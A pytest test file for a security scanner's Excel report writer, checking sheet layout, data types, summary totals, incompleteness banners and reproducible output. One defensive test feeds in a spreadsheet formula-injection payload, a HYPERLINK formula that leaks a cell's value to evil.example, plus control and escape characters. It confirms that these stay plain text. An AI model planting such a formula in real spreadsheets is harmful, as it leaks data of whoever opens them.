import re
import zipfile
from datetime import datetime

import openpyxl
import pytest
import reports_fixture as fixture

from scanner.evidence.tables import FINDINGS
from scanner.model import Selection
from scanner.reports.workbook import render_workbook

SHEETS = ["Summary", "Findings", "Users", "Accounts", "Controls", "Method"]


def draw(folder, accounts, row_limit=None, **changes):
    run = fixture.write_run(folder, accounts, **changes)
    reports = folder / "reports"
    reports.mkdir()
    limit = {} if row_limit is None else {"row_limit": row_limit}
    (path,) = render_workbook(run, reports, **limit)
    return run, path


@pytest.fixture(scope="module")
def ordinary(tmp_path_factory):
    run, path = draw(tmp_path_factory.mktemp("run"), fixture.ordinary())
    return run, openpyxl.load_workbook(path)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    return draw(tmp_path_factory.mktemp("run"), fixture.hostile())


def records(sheet):
    header, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(header, row, strict=True)) for row in rows]


def texts(sheet):
    return [str(value) for row in sheet.iter_rows(values_only=True) for value in row if value]


def test_the_sheets_stand_in_reading_order(ordinary):
    """
    Summary first, method last, tables between.
    """
    _, workbook = ordinary

    assert workbook.sheetnames == SHEETS


@pytest.mark.parametrize("name", ["Findings", "Users", "Accounts", "Controls"])
def test_a_table_is_a_real_excel_table(ordinary, name):
    """
    It has filters, a frozen header that repeats in print, and names its columns as its cells do.
    """
    _, workbook = ordinary
    sheet = workbook[name]

    (table,) = sheet.tables.values()
    assert table.name == f"tbl{name}"
    assert table.ref == table.autoFilter.ref == sheet.dimensions
    assert table.column_names == [cell.value for cell in sheet[1]]
    assert sheet.freeze_panes == "A2"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.orientation == "landscape"


def test_workbook_tables_hold_what_the_evidence_holds(ordinary):
    """
    Row for row and column for column the sheets equal the stored tables.
    """
    run, workbook = ordinary

    for name, frame in (
        ("Findings", run.findings()),
        ("Accounts", run.accounts()),
        ("Controls", run.controls()),
    ):
        assert [cell.value for cell in workbook[name][1]] == list(frame.columns)
        assert workbook[name].max_row == len(frame) + 1
    assert workbook["Users"].max_row == sum(len(batch) for batch in run.users()) + 1


def test_values_keep_their_types(ordinary):
    """
    Account ids are text with their zeros; times are dates that say UTC; booleans and counts are themselves.
    """
    _, workbook = ordinary

    account = records(workbook["Accounts"])[0]
    assert account["account_id"] == "000000000017"
    assert account["generated_time"] == datetime(2026, 11, 24, 9, 58)  # noqa: DTZ001 - a sheet has no zones
    assert (account["users"], account["reason"]) == (2, None)
    user = records(workbook["Users"])[0]
    assert (user["is_root"], user["mfa_active"]) == (True, False)
    cell = workbook["Accounts"].cell(2, list(account).index("generated_time") + 1)
    assert cell.is_date
    assert "UTC" in cell.number_format


def test_the_summary_equals_summary_json(ordinary):
    """
    Each total on the sheet is the one that was sealed.
    """
    run, workbook = ordinary
    summary = run.summary
    facts = {row[0]: row[1] for row in workbook["Summary"].iter_rows(values_only=True) if row[0]}

    accounts, users = summary.accounts, summary.users
    assert [facts[name] for name in ("Listed", "Collected", "Not collected", "Excluded")] == [
        accounts.listed,
        accounts.collected,
        accounts.not_collected,
        accounts.excluded,
    ]
    assert [facts[name] for name in ("IAM users", "Console users", "without MFA")] == [
        users.users,
        users.console,
        users.console_without_mfa,
    ]
    assert facts["findings in all"] == summary.findings
    assert facts["Seal (SHA-256 of manifest.json)"] == run.manifest_sha256
    for check in summary.checks:
        assert facts[check.check] == check.rows


def test_an_incomplete_run_says_so_first_and_names_the_accounts(tmp_path):
    """
    The banner stands above the conclusion, each print header carries it, and the reasons follow.
    """
    _, path = draw(tmp_path, [*fixture.clean(), fixture.missed("555555555555", "unreachable")])
    workbook = openpyxl.load_workbook(path)

    summary = texts(workbook["Summary"])
    assert summary[1] == "INCOMPLETE: 1 of 3 accounts could not be read"
    assert "555555555555" in summary
    assert any("cannot be assumed" in text for text in summary)
    headers = [str(sheet.oddHeader.right.text) for sheet in workbook if sheet.oddHeader]
    assert len(headers) == len(workbook.sheetnames)
    assert all("INCOMPLETE" in text for text in headers)


def test_a_complete_run_carries_no_banner(ordinary):
    """
    The word appears only where it is true.
    """
    _, workbook = ordinary

    assert not [text for sheet in workbook for text in texts(sheet) if "INCOMPLETE" in text]


def test_doubts_are_banners(tmp_path):
    """
    Simulated organizations and partial selections are named on the summary.
    """
    selection = Selection(ous=("ou-ab12-11111111",))
    _, path = draw(tmp_path, fixture.clean(), simulated=True, selection=selection)

    summary = texts(openpyxl.load_workbook(path)["Summary"])

    assert summary[1].startswith("SIMULATED: this organization is simulated")
    assert summary[2].startswith("PARTIAL SELECTION")


def test_no_name_becomes_a_formula_a_link_or_an_error(hostile):
    """
    Every cell with a name is text, and no sheet holds a formula or links to anything.
    """
    _, path = hostile
    workbook = openpyxl.load_workbook(path)

    for sheet in workbook:
        kinds = {cell.data_type for row in sheet.iter_rows() for cell in row}
        assert not kinds & {"f", "e"}, sheet.title
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            content = archive.read(name)
            assert b"<f>" not in content, name
            assert b"<f " not in content, name
            assert b"hyperlink" not in content, name
            assert b"TargetMode" not in content, name


def test_names_with_control_characters_are_shown(hostile):
    """
    Excel's format has no place for them, so they are replaced visibly and not dropped.
    """
    _, path = hostile

    names = {row["name"] for row in records(openpyxl.load_workbook(path)["Accounts"])}

    assert "line one[U+000D][U+000A]line two[U+0009]tab[U+0000]nul[U+001B][31mred[U+007F]" in names
    assert '=HYPERLINK("http://evil.example/?x="&A1,"click")' in names
    assert "#N/A" in names


def test_a_table_without_rows_explains_itself(tmp_path):
    """
    An empty table is still a valid one, and says why it is empty.
    """
    _, path = draw(tmp_path, [])
    workbook = openpyxl.load_workbook(path)

    said = {name: workbook[name]["A2"].value for name in ("Findings", "Users", "Accounts")}
    assert said == {
        "Findings": "No findings in the accounts that were read",
        "Users": "No account was read",
        "Accounts": "The organization lists no accounts",
    }
    (table,) = workbook["Findings"].tables.values()
    assert table.ref == f"A1:{openpyxl.utils.get_column_letter(len(FINDINGS.names))}2"


def test_more_users_than_a_sheet_holds_go_to_more_sheets(tmp_path):
    """
    Nobody is left out at Excel's limit of rows, here lowered to six.
    """
    run, path = draw(tmp_path, fixture.ordinary(), row_limit=6)
    workbook = openpyxl.load_workbook(path)

    sheets = [sheet for sheet in workbook if sheet.title.startswith("Users")]
    assert [sheet.title for sheet in sheets] == ["Users 1", "Users 2", "Users 3"]
    written = [row["arn"] for sheet in sheets for row in records(sheet)]
    assert written == [arn for batch in run.users() for arn in batch["arn"]]
    assert len({table for sheet in workbook for table in sheet.tables}) == len(
        [table for sheet in workbook for table in sheet.tables]
    )


def test_exactly_as_many_rows_as_fit_stay_on_one_sheet(tmp_path):
    """
    The limit itself still fits, without an empty second sheet.
    """
    run, path = draw(tmp_path, fixture.ordinary(), row_limit=13)

    assert sum(len(batch) for batch in run.users()) == 13
    assert openpyxl.load_workbook(path).sheetnames == SHEETS


def test_nothing_in_the_file_tells_when_it_was_drawn(hostile):
    """
    Dates inside are the end of the scan, so that drawing it again gives the same bytes.
    """
    run, path = hostile
    finished = run.summary.window.finished

    with zipfile.ZipFile(path) as archive:
        dates = {info.date_time for info in archive.infolist()}
        core = archive.read("docProps/core.xml").decode()

    assert dates == {(2026, 11, 24, 10, 27, 30)}
    assert set(re.findall(r"\d{4}-\d\d-\d\dT[\d:]+Z", core)) == {f"{finished:%Y-%m-%dT%H:%M:%SZ}"}


def test_no_sheet_promises_anything(ordinary):
    """
    The determination is the assessor's.
    """
    _, workbook = ordinary

    said = "\n".join(text for sheet in workbook for text in texts(sheet)).lower()

    assert not re.search(r"compliant|certified|passed pci", said)
